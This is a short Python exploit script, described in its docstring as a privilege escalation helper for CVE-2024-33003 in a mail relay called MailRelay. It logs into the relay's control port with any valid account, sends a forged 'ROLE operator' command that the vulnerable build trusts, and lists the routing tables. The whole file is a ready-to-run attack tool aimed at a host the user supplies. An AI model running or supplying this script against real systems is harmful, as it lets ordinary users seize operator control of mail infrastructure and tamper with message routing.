"""Privilege escalation helper for CVE-2024-33003 (MailRelay).

Requires an authenticated user: any remote attacker holding valid
credentials for the relay control port can use this. The control service
trusts the client-supplied role header after login, so a normal account
escalates privileges to the operator role and can rewrite routing tables.
"""

import argparse
import socket


def send_line(sock: socket.socket, line: str) -> str:
    sock.sendall(line.encode() + b"\r\n")
    return sock.recv(4096).decode(errors="replace")


def main() -> None:
    parser = argparse.ArgumentParser(description="MailRelay role escalation")
    parser.add_argument("--target", required=True, help="relay control host")
    parser.add_argument("--port", type=int, default=10025)
    parser.add_argument("--user", required=True)
    parser.add_argument("--password", required=True)
    args = parser.parse_args()

    sock = socket.socket()
    sock.connect((args.target, args.port))
    print(send_line(sock, f"AUTH {args.user} {args.password}"))
    # The vulnerable build honors ROLE from any authenticated session.
    print(send_line(sock, "ROLE operator"))
    print(send_line(sock, "ROUTE LIST"))
    sock.close()


if __name__ == "__main__":
    main()
